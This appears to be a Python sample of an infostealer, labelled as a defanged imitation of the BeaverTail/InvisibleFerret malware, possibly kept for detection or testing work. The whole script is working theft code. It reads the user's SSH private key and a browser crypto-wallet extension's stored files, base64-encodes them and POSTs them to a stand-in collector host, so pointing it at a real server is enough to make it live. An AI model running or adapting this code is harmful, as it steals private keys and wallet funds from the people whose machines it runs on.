"""Defanged stealer shape (BeaverTail/InvisibleFerret): read keys and wallets, POST them home."""

import base64
import json
import pathlib
import sys
import urllib.request

home = pathlib.Path.home()
loot = {"argv": sys.argv[1:]}
key = home / ".ssh" / "id_ed25519"
if key.exists():
    loot["ssh"] = key.read_text()
wallet = home / ".config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn"
if wallet.is_dir():
    loot["wallet"] = {p.name: base64.b64encode(p.read_bytes()).decode() for p in wallet.iterdir() if p.is_file()}
request = urllib.request.Request(
    "https://collector.exfil.test/upload", data=json.dumps(loot).encode(), method="POST",
    headers={"Content-Type": "application/json"},
)
try:
    urllib.request.urlopen(request, timeout=10).read()
except OSError as exc:
    print("upload failed:", exc)
